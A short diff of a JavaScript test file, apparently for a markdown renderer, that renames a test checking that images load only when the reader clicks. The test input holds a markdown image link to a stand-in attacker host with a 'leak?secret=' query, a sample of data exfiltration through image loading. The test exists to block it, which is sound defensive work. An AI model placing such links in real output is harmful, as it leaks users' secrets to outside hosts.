@@ -94,7 +94,7 @@ test("links lead out safely", async () => {
   }
 });
 
-test("an image is fetched when it is asked for, not before", async () => {
+test("an image is fetched when the reader clicks, not before", async () => {
   const pixel = "data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==";
   const el = await show(`![chart](https://evil.example/leak?secret=1)\n\n![dot](${pixel})`);
   expect(el.querySelector("img")).toBeNull();
